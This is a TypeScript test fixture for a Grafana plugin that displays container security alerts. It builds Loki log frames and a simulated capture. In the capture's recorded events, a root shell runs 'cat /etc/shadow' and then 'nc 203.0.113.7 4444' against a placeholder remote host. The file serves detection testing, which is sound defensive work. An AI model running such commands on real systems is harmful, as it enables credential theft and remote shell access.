/**
 * Test support: Loki logs frames in the shape Grafana's Loki data source returns (dataplane: `labels`, `Time`,
 * `Line`, `tsNs`, `id`; meta.type 'log-lines'), and realistic Vigil alert and activity lines (docs/loki.md,
 * docs/recorder.md). Used by unit and component tests only.
 */
import { FieldType, type DataFrame } from '@grafana/data';

export interface StreamEntry {
  labels: Record<string, string>;
  /** Unix ns as a string, like Loki. */
  tsNs: string;
  line: string;
}

export function logsFrame(entries: StreamEntry[], refId = 'A', order: 'dataplane' | 'reversed' = 'dataplane'): DataFrame {
  const fields = [
    { name: 'labels', type: FieldType.other, config: {}, values: entries.map((e) => e.labels) },
    { name: 'Time', type: FieldType.time, config: {}, values: entries.map((e) => Math.floor(Number(e.tsNs) / 1e6)) },
    { name: 'Line', type: FieldType.string, config: {}, values: entries.map((e) => e.line) },
    { name: 'tsNs', type: FieldType.string, config: {}, values: entries.map((e) => e.tsNs) },
    { name: 'id', type: FieldType.string, config: {}, values: entries.map((e, i) => `${e.tsNs}_${i}`) },
  ];
  return {
    refId,
    name: refId,
    meta: { type: 'log-lines' as never, typeVersion: [0, 0] },
    fields: order === 'dataplane' ? fields : [...fields].reverse(),
    length: entries.length,
  } as DataFrame;
}

export const BASE_MS = 1764801601123;

export interface AlertSpec {
  ms: number;
  rule?: string;
  priority?: string;
  namespace?: string;
  pod?: string;
  container?: string;
  node?: string;
  proc?: string;
  cmdline?: string;
  user?: string;
  captureId?: string;
  uuid?: string;
}

export function alertEntry(a: AlertSpec): StreamEntry {
  const rule = a.rule ?? 'Terminal shell in container';
  const priority = a.priority ?? 'Notice';
  const ns = a.namespace ?? 'web';
  const pod = a.pod ?? 'frontend-7d9c8b6f5d-x2x7k';
  const container = a.container ?? 'nginx';
  const node = a.node ?? 'node-a';
  const proc = a.proc ?? 'sh';
  const cmdline = a.cmdline ?? 'sh -i';
  const user = a.user ?? 'root';
  const time = new Date(a.ms).toISOString().replace('Z', '000Z');
  const line = {
    time,
    rule,
    priority,
    output: `A shell was spawned in a container with an attached terminal (user=${user} shell=${proc} parent=runc cmdline=${cmdline})`,
    output_fields: { 'proc.name': proc, 'proc.cmdline': cmdline, 'user.name': user, 'container.id': '5f0c0e4a9b1d' },
    tags: ['container', 'shell', 'mitre_execution'],
    hostname: node,
    source: 'syscall',
    uuid: a.uuid ?? `uuid-${a.ms}-${rule.length}`,
    ts: a.ms,
    count: 1,
    ...(a.captureId ? { capture_id: a.captureId } : {}),
    container: { id: '5f0c0e4a9b1d'.padEnd(64, '0'), runtime: 'containerd', name: container, image: 'docker.io/library/nginx:1.25.3' },
    k8s: { ns, pod, container, workload_kind: 'Deployment', workload: 'frontend' },
    event: { type: 'exec', time, ts: a.ms, proc: { pid: 31337, name: proc, cmdline, uid: 0 } },
  };
  return {
    labels: { job: 'vigil', node, namespace: ns, pod, container, rule, priority, stream: 'alert' },
    tsNs: `${a.ms}000000`,
    line: JSON.stringify(line),
  };
}

/** The capture of docs/recorder.md: a shell reads /etc/shadow, then nc fails to reach a remote port. */
export const CAPTURE_ID = '01KBK5YQNH9ED0DH';
export const RECORDER_ENTRIES: Array<Record<string, unknown>> = [
  { ts: 1764801601201, pid: 31330, tid: 31330, name: 'sh', uid: 0, type: 'fork', child_pid: 31337, thread: false },
  { ts: 1764801601201.4, pid: 31337, tid: 31337, name: 'cat', uid: 0, ppid: 31330, type: 'exec', exe: '/bin/busybox', cmdline: 'cat /etc/shadow', cwd: '/', euid: 0, loginuid: -1, tty: 34816, start_ns: 88123488126, upper_layer: false, memfd: false },
  { ts: 1764801601201.9, pid: 31337, tid: 31337, name: 'cat', uid: 0, type: 'open', path: '/etc/shadow', res: 3, flags: 524288, write: false, file_type: 'file' },
  { ts: 1764801601202.3, pid: 31337, tid: 31337, name: 'cat', uid: 0, type: 'exit', code: 0, signal: 0, core_dumped: false },
  { ts: 1764801603201, pid: 31330, tid: 31330, name: 'sh', uid: 0, type: 'fork', child_pid: 31340, thread: false },
  { ts: 1764801603201.5, pid: 31340, tid: 31340, name: 'nc', uid: 0, ppid: 31330, type: 'exec', exe: '/usr/bin/nc', cmdline: 'nc 203.0.113.7 4444', cwd: '/', euid: 0, loginuid: -1, tty: 0, start_ns: 88123488129, upper_layer: false, memfd: false },
  { ts: 1764801603202.2, pid: 31340, tid: 31340, name: 'nc', uid: 0, type: 'connect', res: -111, proto: 'tcp', family: 'inet', local: { ip: '10.88.0.5', port: 40112 }, remote: { ip: '203.0.113.7', port: 4444 } },
  { ts: 1764801603203, pid: 31340, tid: 31340, name: 'nc', uid: 0, type: 'exit', code: 1, signal: 0, core_dumped: false },
];

export function activityEntry(e: Record<string, unknown>, captureId = CAPTURE_ID): StreamEntry {
  const ts = Number(e.ts);
  return {
    labels: { job: 'vigil', node: 'node-a', namespace: 'shop', pod: 'cart-7d9f8-x2k4q', container: 'cart', stream: 'activity' },
    tsNs: `${Math.round(ts * 1e6)}`,
    line: JSON.stringify({ capture_id: captureId, alert_uuid: '8c3e5f8e-6a3b-4c1e-9a53-0b7e1b0d2f11', container_id: '5f0c0e4a', ...e }),
  };
}
